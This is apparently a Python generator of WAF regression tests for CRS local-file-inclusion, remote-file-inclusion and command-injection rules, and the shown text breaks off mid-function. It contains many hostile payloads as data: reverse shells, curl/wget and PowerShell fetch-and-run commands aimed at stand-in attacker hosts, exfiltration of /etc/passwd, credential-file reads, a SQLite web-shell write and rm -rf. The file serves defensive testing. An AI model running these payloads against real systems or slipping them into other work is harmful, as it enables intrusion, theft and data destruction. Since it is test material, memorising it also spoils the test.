"""Blind positive regression tests for the CRS 3.3.4 local-file-inclusion, remote-file-inclusion and remote-command
execution request rules at paranoia levels 1-2 (930100-932200), plus the request-rule titles CRS 4.x added to those
families, written the way a rule author writes a rule's positive tests: from each rule's title alone.

The angle: a seventh author of the same titles. For each title the set holds the canonical attack the title names,
then one test per alternative of the title's family (every traversal encoding, OS file, restricted file, RFI
parameter, Unix and Windows command, PowerShell cmdlet, shell expression, FOR/IF form, shell path, Shellshock
shape, restricted upload name, quoting bypass, alias and history expansion, SQLite dot command, SMTP / IMAP / POP3
verb), then the variants a good rule must still catch: other quoting, casing, whitespace and comment substitutes,
concatenation, and the encodings a server decodes (URL, double URL, overlong UTF-8, IIS %u, unicode escapes in
JSON). Payloads are shaped like real attacks on PHP CMSs, Java apps, Node APIs, CGI scripts and IIS.

Families and sub-families (one sub per title):
  lfi: path-traversal-attack-encoded (930100), path-traversal-attack (930110), os-file-access-attempt (930120),
       restricted-file-access-attempt (930130), os-file-access-attempt-in-headers and path-traversal-attack-triple-dot
       (4.x);
  rfi: rfi-url-parameter-ip-address (931100), rfi-common-vulnerable-parameter-name (931110),
       rfi-url-trailing-question-mark (931120), rfi-off-domain-reference (931130, PL2);
  rce: unix-command-injection (932100), unix-command-injection-more-commands (932105), windows-command-injection
       (932110), windows-command-injection-more-commands (932115), windows-powershell-command (932120),
       unix-shell-expression (932130), windows-for-if-command (932140), direct-unix-command-execution (932150),
       unix-shell-code (932160), shellshock-headers (932170), shellshock-args (932171), restricted-file-upload
       (932180), rce-bypass-technique (932200, PL2), and the 4.x titles unix-command-injection-without-evasion,
       unix-command-injection-evasion, unix-shell-alias-invocation, unix-shell-history-invocation,
       unix-pipes-short-commands, sqlite-system-command, mail-protocol-command-execution,
       windows-command-injection-evasion, unix-shell-code-in-headers, direct-unix-command-absolute-paths.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON and XML bodies of /api/users, a cookie, User-Agent, Referer, X-Request-Source, a parameter
name, a multipart field of /admin/users/import, a multipart filename or X-Filename of an avatar upload, the URL
path), and once the way a WAF's regression suite sends it ("rs-" placements): to paths that are not our routes
(/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a query
string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent,
Referer, a custom header or a cookie. Titles whose rule reads one place only keep to it: header titles to
headers, restricted files to the URL path, uploads to file names, the RFI parameter-name title to named
parameters; payloads with a line break stay out of headers, cookies, names and paths; JSON unicode-escape
variants go in JSON bodies only. Pre-encoded payloads (Enc) are sent as written, everything else is URL-encoded
where the place needs it.

Benign half: the same words as people type them innocently: Slack messages and bios (chat_and_bio), public
documentation links and admin-panel searches (links_and_prose), searches of the user list, notes, profiles with
names, companies and addresses, ordinary upload file names, browser and tool User-Agents and Referers, cookies.

Authorship and independence: written for this repository from general knowledge and the rule titles alone; no
ruleset, rule file, regression test or public payload list was read, nor the WAF engine or its configuration
(beyond the route list), nor any other blind set. Measured once on unchanged code. Deterministic: no clock, no
randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "sixtysecond"


class Enc(str):
    """A payload already URL-encoded as an attacker sends it: placed as written in URLs and bodies."""

    __slots__ = ()


class Uni(str):
    """A JSON string's text with \\u escapes the server decodes: placed only in JSON bodies, verbatim."""

    __slots__ = ()


# ---------------------------------------------------------------------------------------------------------------
# LFI
# ---------------------------------------------------------------------------------------------------------------
TRAVERSAL_ENCODED: list[str] = [
    Enc("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    Enc("..%2f..%2f..%2f..%2fetc%2fpasswd"),
    Enc("%2e%2e/%2e%2e/%2e%2e/windows/win.ini"),
    Enc("..%5c..%5c..%5c..%5cboot.ini"),
    Enc("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    Enc("..%252f..%252f..%252fetc%252fhosts"),
    Enc("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    Enc("..%c0%af..%c0%af..%c0%afetc/passwd"),
    Enc("..%e0%80%af..%e0%80%af..%e0%80%afetc/shadow"),
    Enc("%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    Enc("..%c1%1c..%c1%1cwinnt/system32/cmd.exe?/c+dir+c:%5c"),
    Enc("%2E%2E%5C%2E%2E%5C%2E%2E%5Cinetpub%5Cwwwroot%5Cweb.config"),
    Enc("..%255c..%255c..%255cwindows%255cwin.ini"),
    Enc("%2e%2e%2f%2e%2e%2fWEB-INF%2fweb.xml"),
    Uni("\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"),
]

TRAVERSAL: list[str] = [
    "../../../../etc/passwd",
    r"..\..\..\..\windows\win.ini",
    "....//....//....//etc/passwd",
    "/var/www/html/../../../etc/shadow",
    "..//..//..//..//etc//passwd",
    "../../../../../../../../proc/self/environ",
    r"..\/..\/..\/etc\/passwd",
    ".././.././.././etc/passwd",
    "../../../WEB-INF/web.xml",
    Enc("../../../../etc/passwd%00.png"),
    r"..\..\..\inetpub\wwwroot\web.config",
    "/../../../../../../etc/hosts",
    "images/../../../../../config/database.yml",
    r"..\\..\\..\\windows\\win.ini",
    Uni("..\\u002f..\\u002f..\\u002f..\\u002fetc\\u002fpasswd"),
]

OS_FILES: list[str] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/fd/0",
    r"c:\windows\win.ini",
    r"C:\boot.ini",
    "/etc/group",
    "/root/.bash_history",
    "/home/ubuntu/.ssh/id_rsa",
    "/var/log/apache2/access.log",
    r"C:\Windows\System32\drivers\etc\hosts",
    r"windows\system32\config\SAM",
    "/etc//passwd",
    "/ETC/PASSWD",
    Enc("%2fetc%2fpasswd"),
    Uni("\\u002fetc\\u002fshadow"),
]

RESTRICTED_FILES: list[str] = [
    ".env",
    ".git/config",
    ".git/HEAD",
    ".svn/wc.db",
    ".htaccess",
    ".htpasswd",
    "web.config",
    ".DS_Store",
    ".aws/credentials",
    ".hg/hgrc",
    "WEB-INF/web.xml",
    ".npmrc",
    ".ENV",
    "wp-config.php.bak",
    Enc("%2egit/config"),
]

OS_FILES_HEADERS: list[str] = [
    "/etc/passwd",
    "/etc/shadow",
    "../../../../etc/passwd",
    "/proc/self/environ",
    r"c:\windows\win.ini",
    r"C:\boot.ini",
    "/root/.ssh/id_rsa",
    "/var/log/nginx/access.log",
    "/etc/group",
    Enc("%2fetc%2fpasswd"),
    "/home/www/.bash_history",
    "/proc/version",
]

TRAVERSAL_DOTS: list[str] = [
    "/.../.../.../etc/passwd",
    ".../.../.../windows/win.ini",
    "..../..../..../etc/passwd",
    "..../\\..../\\etc/passwd",
    ".../...//.../etc/hosts",
    r"/....\....\....\boot.ini",
    r"...\...\...\windows\system.ini",
    Enc("%2e%2e%2e/%2e%2e%2e/etc/passwd"),
    Enc(".%2e./.%2e./.%2e./etc/passwd"),
    "/..;/..;/WEB-INF/web.xml",
    "..;/..;/..;/etc/passwd",
    Enc("/%2e%2e;/%2e%2e;/manager/html"),
]

# ---------------------------------------------------------------------------------------------------------------
# RFI
# ---------------------------------------------------------------------------------------------------------------
RFI_IP: list[str] = [
    "http://203.0.113.5/shell.txt",
    "https://198.51.100.23/c99.php",
    "ftp://192.0.2.10/pub/x.txt",
    "ftps://203.0.113.77/r57.txt",
    "file://192.168.1.20/share/x.php",
    "HTTP://203.0.113.5/SHELL.TXT",
    "http://10.10.10.10:8080/inc.txt",
    "http://203.0.113.5/",
    "http://user@203.0.113.5/x.txt",
    "http://3405803781/x.txt",
    "http://0xCB007105/x.txt",
    "http://[2001:db8::5]/x.txt",
    Enc("http%3A%2F%2F203.0.113.5%2Fshell.txt"),
    Enc("http%253A%252F%252F203.0.113.5%252Fx.txt"),
    Uni("http\\u003a\\u002f\\u002f203.0.113.5\\u002fx.txt"),
]

RFI_NAMED: list[tuple[str, str]] = [
    ("include", "http://attacker.example/shell.txt"),
    ("page", "https://attacker.example/inc/c99.txt"),
    ("file", "ftp://attacker.example/x.php"),
    ("inc", "http://attacker.example/r57.txt"),
    ("template", "https://attacker.example/tpl/evil.tpl"),
    ("path", "http://attacker.example/"),
    ("dir", "http://attacker.example/dir/"),
    ("mosConfig_absolute_path", "http://attacker.example/x.txt"),
    ("document", "https://attacker.example/d.txt"),
    ("folder", "http://attacker.example/f/"),
    ("phpbb_root_path", "http://attacker.example/x.txt"),
    ("pg", "http://attacker.example/y.txt"),
    ("style", "http://attacker.example/s.css.php"),
    ("lang", "HTTP://attacker.example/lang.php"),
    ("show", Enc("https%3A%2F%2Fattacker.example%2Fs.txt")),
]

RFI_QMARK: list[str] = [
    "http://attacker.example/shell.txt?",
    "https://attacker.example/c99.txt??",
    "ftp://attacker.example/x.txt?",
    "HTTP://ATTACKER.EXAMPLE/X.TXT?",
    "http://203.0.113.9/x.txt?",
    "https://attacker.example:8443/a/b/c.txt?",
    "http://attacker.example/x.jpg?",
    "//attacker.example/shell.txt?",
    "https://raw.githubusercontent.com/attacker/kit/main/sh.txt?",
    "http://attacker.example/r57.txt?&",
    Enc("http://attacker.example/x.txt%3f"),
    Enc("http://attacker.example/x.txt%253f"),
    Enc("http://attacker.example/x.txt?%00"),
    Uni("http://attacker.example/x.txt\\u003f"),
]

RFI_OFFDOMAIN: list[str] = [
    "http://attacker.example/",
    "https://evil.example/shell.php",
    "ftp://files.attacker.example/x",
    "http://attacker.example/x.txt#",
    "//attacker.example/inc.php",
    "https://legit.example@attacker.example/x.php",
    "HTTPS://EVIL.EXAMPLE/A",
    "http://evil.example:8080/x.php",
    r"\\attacker.example\share\x.php",
    "https://pastebin.com/raw/AbCd1234",
    Enc("http%3A%2F%2Fattacker.example%2Fx"),
    "file://attacker.example/x.php",
]

# ---------------------------------------------------------------------------------------------------------------
# RCE
# ---------------------------------------------------------------------------------------------------------------
UNIX_CMD: list[str] = [
    ";id",
    "|id",
    ";cat /etc/passwd",
    "&& whoami",
    "|| uname -a",
    "`id`",
    "$(whoami)",
    ";ls -la /",
    "|nc 203.0.113.5 4444 -e /bin/sh",
    ";wget http://attacker.example/x -O /tmp/x",
    Enc("%0aid"),
    ";curl http://attacker.example/s.sh|sh",
    "127.0.0.1; ping -c 4 203.0.113.5",
    "x'; id; echo '",
]

UNIX_CMD_MORE: list[str] = [
    ";ps aux",
    "|netstat -an",
    ";ifconfig -a",
    "&&printenv",
    ";chmod 777 /tmp/x",
    ";rm -rf /var/www",
    ";crontab -l",
    "|perl -e 'print 1'",
    ";python -c 'import os;os.system(\"id\")'",
    ";php -r 'system(\"id\");'",
    ";find / -perm -4000",
    ";tftp -i 203.0.113.5 GET x",
    ";awk 'BEGIN{system(\"id\")}'",
    ";base64 -d /tmp/p|sh",
]

WIN_CMD: list[str] = [
    "&dir",
    "|dir c:\\",
    r"&type c:\windows\win.ini",
    "&&whoami",
    "|net user",
    ";net localgroup administrators",
    "|ipconfig /all",
    "&systeminfo",
    "|tasklist",
    "&ping -n 5 203.0.113.5",
    "||ver",
    "&cmd /c dir",
    Enc("%26dir"),
    r"& echo test > c:\inetpub\wwwroot\x.txt",
]

WIN_CMD_MORE: list[str] = [
    "&certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
    r"|bitsadmin /transfer j http://attacker.example/x c:\x.exe",
    r"&reg query HKLM\SOFTWARE\Microsoft",
    "|wmic process call create calc",
    "&netstat -ano",
    "&&sc query",
    r"|schtasks /create /tn x /tr c:\x.exe /sc once /st 00:00",
    "&nslookup attacker.example",
    "|taskkill /f /im av.exe",
    "&rundll32 url.dll,FileProtocolHandler calc",
    "&mshta http://attacker.example/x.hta",
    "|regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
    "&net share",
    r"&copy c:\windows\system32\config\sam c:\temp\s",
]

POWERSHELL: list[str] = [
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
    "Invoke-Expression (Invoke-WebRequest http://attacker.example/p).Content",
    ";powershell.exe -EncodedCommand SQBFAFgA",
    "|Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
    "Start-Process calc.exe",
    r"Get-ChildItem C:\Users -Recurse",
    "Get-Process | Stop-Process -Force",
    "Set-ExecutionPolicy Bypass -Scope Process",
    "Invoke-Command -ScriptBlock {whoami}",
    r"Get-Content C:\Windows\win.ini",
    r"Remove-Item -Recurse -Force C:\inetpub",
    "New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444)",
    "Get-WmiObject Win32_OperatingSystem",
    "pwsh -c Get-Service",
    "iex(iwr http://attacker.example/a -UseBasicParsing)",
]

SHELL_EXPR: list[str] = [
    "$(id)",
    "`whoami`",
    "a${IFS}b",
    "$(cat /etc/passwd)",
    "<(id)",
    ">(curl http://attacker.example)",
    "${PATH:0:1}",
    ";echo $(uname -a)",
    "${HOME}",
    "$(< /etc/passwd)",
    "$'\\x69\\x64'",
    "$((7*7))",
    Enc("%24%28id%29"),
    Uni("\\u0024\\u0028id\\u0029"),
]

WIN_FOR_IF: list[str] = [
    "for /f \"tokens=*\" %i in ('whoami') do echo %i",
    "&for /l %i in (1,1,10) do ping 203.0.113.5",
    "FOR /F %a IN ('dir /b') DO type %a",
    r"for /r c:\ %i in (*.config) do type %i",
    r"for /d %d in (c:\*) do echo %d",
    r"if exist c:\windows\win.ini type c:\windows\win.ini",
    r"IF NOT EXIST c:\temp mkdir c:\temp",
    "if defined PATH echo %PATH%",
    "&if errorlevel 1 echo fail",
    "for %%x in (a b) do echo %%x",
    "if /i \"%USERNAME%\"==\"admin\" net user",
    "for /f \"usebackq\" %i in (`hostname`) do nslookup %i.attacker.example",
    "f^or /l %i in (1,1,5) do calc",
]

DIRECT_UNIX: list[str] = [
    "cat /etc/passwd",
    "id",
    "uname -a",
    "whoami",
    "wget http://attacker.example/x.sh -O /tmp/x.sh",
    "curl -s http://attacker.example/x | bash",
    "nc -e /bin/sh 203.0.113.5 4444",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "perl -e 'exec \"/bin/sh\"'",
    "ls -la /var/www",
    "sh -c id",
    "ping -c 3 203.0.113.5",
    "nslookup $(whoami).attacker.example",
]

SHELL_CODE: list[str] = [
    "/bin/sh",
    "/bin/bash -c id",
    "/usr/bin/id",
    "/bin/cat /etc/passwd",
    "/usr/bin/perl -e 'print 1'",
    "/usr/bin/python3",
    "/bin/b'a's'h",
    "/bin//sh",
    "/usr/bin/wget",
    r"\/bin\/sh",
    "/sbin/ifconfig",
    "/usr/local/bin/node -e 1",
    "/bin/nc.traditional -e /bin/sh",
    Enc("%2fbin%2fsh"),
]

SHELLSHOCK_HEADERS: list[str] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /usr/bin/id",
    "() { ignored; }; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "(){ :; }; wget http://attacker.example/x -O /tmp/x",
    "() {:;}; ping -c 1 203.0.113.5",
    "() { x;};echo vulnerable",
    "() { :; }; curl http://attacker.example/$(whoami)",
    "() { (a)=>\\' bash -c \"echo date\"",
    "()  {  :  ;  }  ;  /bin/sleep 20",
    "() { :; }; /bin/nc -e /bin/sh 203.0.113.5 4444",
]

SHELLSHOCK_ARGS: list[str] = [
    "() { :; }; echo Content-Type: text/plain; echo; id",
    "() { :;}; /bin/bash -c \"cat /etc/passwd\"",
    Enc("%28%29%20%7B%20%3A%3B%20%7D%3B%20id"),
    "() { foo; }; /usr/bin/id",
    "(){:;};/bin/sh -c id",
    "() { :; }; ping -c 3 attacker.example",
    "() { _; } >_[$($())] { whoami; }",
    "() { :;}; /usr/bin/wget -qO- http://attacker.example/s",
    "() { test;};/bin/ls /",
    Uni("\\u0028\\u0029 \\u007b :\\u003b \\u007d\\u003b id"),
]

UPLOAD_NAMES: list[str] = [
    ".htaccess",
    ".HTACCESS",
    ".htpasswd",
    ".htdigest",
    "web.config",
    "Web.Config",
    ".user.ini",
    "php.ini",
    "global.asa",
    "global.asax",
    "wp-config.php",
    "web.config::$DATA",
    ".htaccess.",
    "uploads/.htaccess",
]

BYPASS: list[str] = [
    "c'a't /etc/passwd",
    "c\"a\"t /e\"t\"c/pa\"ss\"wd",
    r"w\h\o\a\m\i",
    "who$@ami",
    "/???/c?t /???/p??s??",
    "cat$IFS$9/etc/passwd",
    "{cat,/etc/passwd}",
    "i$()d",
    "c${u}at /etc/passwd",
    "/bin/c[a]t /etc/pass[w]d",
    "ca$*t /etc/passwd",
    "cat</etc/passwd",
    "ls${IFS%?}-la",
    "who``ami",
]

UNIX_NO_EVASION: list[str] = [
    ";head /etc/passwd",
    "|tail -n 5 /etc/shadow",
    ";more /etc/issue",
    "&&less /etc/hosts",
    ";nl /etc/passwd",
    "|strings /bin/ls",
    ";od -c /etc/passwd",
    ";hostname",
    ";date",
    "|echo pwned",
    ";sleep 10",
    ";killall nginx",
    ";mkdir /tmp/x",
    ";touch /tmp/pwn",
]

UNIX_EVASION: list[str] = [
    r";ca\t /etc/pas\swd",
    "|wh''oami",
    ";/bin/c*t /etc/p*d",
    ";'i'd",
    "&&u\"n\"ame -a",
    r";c\a\t${IFS}/et\c/pa\sswd",
    "|ca$@t /etc/hosts",
    ";{ls,-la,/}",
    r";l\s -l\a",
    ";w\"h\"o\"a\"m\"i",
    r"$(w\hoami)",
    "`ec''ho test`",
]

ALIAS: list[str] = [
    ";alias ls='cat /etc/passwd';ls",
    "|alias x=id;x",
    "alias grep='rm -rf /'",
    ";unalias -a; alias a='curl http://attacker.example|sh'; a",
    "&& alias p=\"ping -c 9 203.0.113.5\" && p",
    "alias l='ls -la'; l /",
    ";alias -p",
    "`alias x=id`",
    "$(alias c=cat; c /etc/passwd)",
    r";\id",
    ";command id",
]

HISTORY: list[str] = [
    ";!!",
    ";!-1",
    "|!ls",
    ";!$",
    ";!#",
    "&&!cat",
    ";!?passwd?",
    "`!-2`",
    "$(!!)",
    ";!:0",
    ";!^",
    ";fc -s",
]

PIPES_SHORT: list[str] = [
    "|id",
    "|ps",
    "|w",
    ";ls",
    ";sh",
    "|nc attacker.example 80",
    "&&ls",
    "|su",
    "|dd if=/etc/passwd",
    ";ip a",
    "|df",
    ";du -sh /",
    "|top -b -n1",
]

SQLITE: list[str] = [
    ";.system id",
    ".shell whoami",
    ".system cat /etc/passwd",
    "');\n.shell id\n--",
    ".import /etc/passwd users",
    ".output /var/www/html/x.php",
    ".once /tmp/x",
    ".load /tmp/evil.so",
    ".read /etc/passwd",
    ".open /var/www/x.php",
    "ATTACH DATABASE '/var/www/html/shell.php' AS pwn; CREATE TABLE pwn.x (d text); "
    "INSERT INTO pwn.x VALUES ('<?php system($_GET[0]); ?>');",
    Enc("%0a.system%20id"),
]

MAIL: list[str] = [
    "victim@example.com\r\nRCPT TO:<other@attacker.example>",
    "x\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<b@attacker.example>\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
    Enc("a@example.com%0d%0aHELO%20attacker.example"),
    "\r\nEHLO attacker.example",
    "\r\nVRFY root",
    "INBOX\r\na1 LOGIN admin hunter2",
    "x\r\nA001 SELECT INBOX",
    "\r\na2 FETCH 1:* (BODY[])",
    "INBOX\"\r\nA3 CAPABILITY",
    "\r\nA4 DELETE INBOX",
    "\r\nUSER admin\r\nPASS hunter2",
    "\r\nRETR 1",
    "\r\nLIST",
    "\r\nDELE 1",
]

WIN_EVASION: list[str] = [
    "c^m^d /c whoami",
    "p^o^w^e^r^s^h^e^l^l -c calc",
    "&cmd.exe /c \"dir c:\\\"",
    "%COMSPEC% /c ver",
    "&cmd /V:ON /C \"set x=who&& set y=ami&& call %x%%y%\"",
    "&c\"m\"d /c whoami",
    r"|C:\Windows\System32\cmd.exe /k ipconfig",
    "&powershell -e SQBFAFgAIAAoAEkAVwBSACkA",
    ";PoWeRsHeLl -NoP -NonI -W Hidden -Exec Bypass -Command whoami",
    "&cmd /c \"set a=calc&&call %a%\"",
    "&\"c\"m\"d\" /c dir",
    "&&cmd,/c,whoami",
    r"|forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe",
    "&%windir:~0,1%md /c whoami",
]

SHELL_HEADERS: list[str] = [
    "/bin/bash -c 'id'",
    "/bin/sh -i",
    "curl http://attacker.example/x.sh | /bin/bash",
    "/usr/bin/python -c 'import os'",
    "/bin/nc -e /bin/sh 203.0.113.5 4444",
    "/usr/bin/wget -O- http://attacker.example",
    "/bin/busybox telnetd -l /bin/sh",
    "/usr/bin/perl -MIO -e 'exit'",
    "/bin/zsh",
    "/usr/bin/curl -d @/etc/passwd attacker.example",
    "Mozilla/5.0 (X11) /bin/sh -c id",
    "/bin/ksh",
]

ABS_PATHS: list[str] = [
    "/bin/cat /etc/passwd",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "/???/?at /???/??ss??",
    "/b?n/c?t /e??/p?sswd",
    "/bin/c* /etc/pass*",
    "/usr/bin/wget http://attacker.example/x",
    "/usr/bin/curl -o /tmp/x http://attacker.example/x",
    "/bin/ls -la /root",
    "/sbin/reboot",
    "/usr/sbin/useradd -o -u 0 x",
    "/usr/bin/nc.openbsd 203.0.113.5 4444",
    "/bin/uname -a",
    "/usr/bin/tail /var/log/auth.log",
]

# (category, sub, pool, payloads); pool: where the title's rule reads
TITLES: list[tuple[str, str, str, list[Any]]] = [
    ("lfi", "path-traversal-attack-encoded", "any", TRAVERSAL_ENCODED),
    ("lfi", "path-traversal-attack", "any", TRAVERSAL),
    ("lfi", "os-file-access-attempt", "args", OS_FILES),
    ("lfi", "restricted-file-access-attempt", "path", RESTRICTED_FILES),
    ("lfi", "os-file-access-attempt-in-headers", "headers", OS_FILES_HEADERS),
    ("lfi", "path-traversal-attack-triple-dot", "any", TRAVERSAL_DOTS),
    ("rfi", "rfi-url-parameter-ip-address", "args", RFI_IP),
    ("rfi", "rfi-common-vulnerable-parameter-name", "named", RFI_NAMED),
    ("rfi", "rfi-url-trailing-question-mark", "args", RFI_QMARK),
    ("rfi", "rfi-off-domain-reference", "args", RFI_OFFDOMAIN),
    ("rce", "unix-command-injection", "any", UNIX_CMD),
    ("rce", "unix-command-injection-more-commands", "any", UNIX_CMD_MORE),
    ("rce", "windows-command-injection", "any", WIN_CMD),
    ("rce", "windows-command-injection-more-commands", "any", WIN_CMD_MORE),
    ("rce", "windows-powershell-command", "any", POWERSHELL),
    ("rce", "unix-shell-expression", "any", SHELL_EXPR),
    ("rce", "windows-for-if-command", "any", WIN_FOR_IF),
    ("rce", "direct-unix-command-execution", "any", DIRECT_UNIX),
    ("rce", "unix-shell-code", "any", SHELL_CODE),
    ("rce", "shellshock-headers", "headers", SHELLSHOCK_HEADERS),
    ("rce", "shellshock-args", "args", SHELLSHOCK_ARGS),
    ("rce", "restricted-file-upload", "upload", UPLOAD_NAMES),
    ("rce", "rce-bypass-technique", "any", BYPASS),
    ("rce", "unix-command-injection-without-evasion", "any", UNIX_NO_EVASION),
    ("rce", "unix-command-injection-evasion", "any", UNIX_EVASION),
    ("rce", "unix-shell-alias-invocation", "any", ALIAS),
    ("rce", "unix-shell-history-invocation", "any", HISTORY),
    ("rce", "unix-pipes-short-commands", "any", PIPES_SHORT),
    ("rce", "sqlite-system-command", "args", SQLITE),
    ("rce", "mail-protocol-command-execution", "args", MAIL),
    ("rce", "windows-command-injection-evasion", "any", WIN_EVASION),
    ("rce", "unix-shell-code-in-headers", "headers", SHELL_HEADERS),
    ("rce", "direct-unix-command-absolute-paths", "any", ABS_PATHS),
]

POOLS: dict[str, tuple[list[str], list[str]]] = {
    "any": (["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Request-Source",
             "param-name", "xml", "multipart-field", "path"],
            ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
             "rs-header:X-Custom-Header", "rs-cookie"]),
    "args": (["query", "form", "json", "xml", "multipart-field", "cookie"],
             ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-cookie"]),
    "headers": (["header:User-Agent", "header:Referer", "header:X-Request-Source", "cookie"],
                ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom-Header", "rs-cookie"]),
    "named": (["query", "form", "json", "multipart-field", "xml"], ["rs-query", "rs-form", "rs-json", "rs-xml"]),
    "upload": (["multipart-filename", "header:X-Filename"], ["rs-multipart-filename", "rs-header:X-File-Name"]),
    "path": (["path"], ["rs-path"]),
}
REAL_NAMES = ["q", "name", "filter", "sort", "search", "tag", "note", "title"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
COOKIE_NAMES = ["prefs", "lang", "theme", "last_search"]
RS_GET = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST = ["/post", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi", "/"]
REAL_PATH_PREFIXES = ["/api/", "/admin/", "/api/users/"]
RS_PATH_PREFIXES = ["/", "/app/", "/static/", "/cgi-bin/"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~\"\\"
LINE_UNSAFE = ("header", "cookie", "param-name", "path", "filename")


def _url(v: str) -> str:
    """v as it sits in a URL or form body: as written when pre-encoded, else percent-encoded."""
    return str(v) if isinstance(v, Enc) else urllib.parse.quote(v, safe="")


def _cookie_value(v: str) -> str:
    return str(v) if isinstance(v, Enc) else urllib.parse.quote(v, safe=COOKIE_SAFE)


def _json_doc(name: str, v: str, extra: dict[str, str]) -> str:
    if isinstance(v, Uni):
        head = json.dumps(extra)[:-1] + (", " if extra else "")
        return head + json.dumps(name) + ': "' + str(v) + '"}'
    return json.dumps({**extra, name: str(v)})


def _multipart(parts: list[tuple[str, str | None, str]]) -> str:
    """A multipart body of (field name, filename or None, content)."""
    out = []
    for field, filename, content in parts:
        disp = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename is not None else "")
        ctype = "Content-Type: image/png\r\n" if filename is not None else ""
        out.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{content}\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def _req(method: str, uri: str, body: str = "", ctype: str | None = None,
         headers: dict[str, str] | None = None) -> dict[str, Any]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    h.update(headers or {})
    return {"method": method, "uri": uri, "body": body, "headers": h}


def _real(place: str, name: str, v: str, i: int, pool: str) -> dict[str, Any]:
    if place == "query":
        return _get(f"/api/users?{name}={_url(v)}&page=1")
    if place == "form":
        return _req("POST", "/admin/users/search", f"csrf_token=t0k3n&{name}={_url(v)}",
                    "application/x-www-form-urlencoded")
    if place == "json":
        return _req("POST", "/api/users", _json_doc(name, v, {"email": "a@example.org"}), "application/json")
    if place == "cookie":
        cname = COOKIE_NAMES[i % len(COOKIE_NAMES)]
        return _req("GET", "/api/users?page=1", headers={"Cookie": f"session=abc123; {cname}={_cookie_value(v)}"})
    if place.startswith("header:X-Filename"):
        return _req("POST", "/api/users/42/avatar", "GIF89a", "application/octet-stream", {"X-Filename": v})
    if place.startswith("header:"):
        return _req("GET", "/api/users?page=1", headers={place.split(":", 1)[1]: v})
    if place == "param-name":
        return _get(f"/api/users?{_url(v)}=1&page=1")
    if place == "xml":
        body = f'<?xml version="1.0" encoding="UTF-8"?><user><{name}>{escape(v)}</{name}>' \
               "<email>a@example.org</email></user>"
        return _req("POST", "/api/users", body, "application/xml")
    if place == "multipart-field":
        body = _multipart([("csrf_token", None, "t0k3n"), (name, None, v)])
        return _req("POST", "/admin/users/import", body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "multipart-filename":
        body = _multipart([("csrf_token", None, "t0k3n"), ("avatar", v.replace('"', "%22"), "GIF89a")])
        return _req("POST", "/api/users/42/avatar", body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "path":
        if pool == "path":
            prefix = REAL_PATH_PREFIXES[i % len(REAL_PATH_PREFIXES)]
            return _get(prefix + (str(v) if isinstance(v, Enc) else urllib.parse.quote(v, safe="/")))
        return _get("/api/users/" + _url(v))
    raise ValueError(place)


def _rs(place: str, name: str, v: str, i: int) -> dict[str, Any]:
    get_path, post_path = RS_GET[i % len(RS_GET)], RS_POST[i % len(RS_POST)]
    form = "application/x-www-form-urlencoded"
    if place == "rs-query":
        return _req("GET", f"{get_path}?{name}={_url(v)}")
    if place == "rs-form":
        return _req("POST", post_path, f"{name}={_url(v)}", form)
    if place == "rs-json":
        return _req("POST", post_path, _json_doc(name, v, {}), "application/json")
    if place == "rs-xml":
        return _req("POST", post_path, f'<?xml version="1.0"?><root><{name}>{escape(v)}</{name}></root>',
                    "text/xml")
    if place == "rs-raw-body":
        return _req("POST", post_path, str(v), form)
    if place == "rs-cookie":
        return _req("GET", get_path, headers={"Cookie": f"{name}={_cookie_value(v)}"})
    if place == "rs-header:X-File-Name":
        return _req("POST", "/post", "GIF89a", "application/octet-stream", {"X-File-Name": v})
    if place.startswith("rs-header:"):
        return _req("GET", get_path, headers={place.split(":", 1)[1]: v})
    if place == "rs-multipart-filename":
        body = _multipart([("file", v.replace('"', "%22"), "GIF89a")])
